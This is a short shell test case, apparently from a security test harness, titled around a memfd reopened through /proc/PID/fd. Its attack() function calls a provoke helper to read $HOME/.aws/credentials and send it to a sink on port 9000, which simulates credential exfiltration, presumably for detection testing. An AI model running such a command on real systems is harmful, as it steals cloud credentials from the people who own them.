# SPDX-License-Identifier: Apache-2.0
TITLE="a memfd reopened through /proc/PID/fd when the secret is in it"
attack() { "$PROVOKE/shm" reopened "$HOME/.aws/credentials" "$SINK4" 9000; }
